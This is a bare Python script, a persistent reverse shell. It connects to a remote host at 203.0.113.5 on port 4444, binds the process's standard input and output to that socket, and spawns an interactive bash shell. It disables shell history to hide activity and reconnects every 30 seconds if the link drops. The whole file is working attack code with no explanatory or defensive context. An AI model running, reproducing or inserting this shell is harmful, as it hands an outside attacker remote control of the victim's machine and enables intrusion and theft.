import os
import pty
import socket
import time

HOST, PORT = "203.0.113.5", 4444

while True:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((HOST, PORT))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        os.putenv("HISTFILE", "/dev/null")
        pty.spawn("/bin/bash")
        s.close()
    except Exception:
        time.sleep(30)
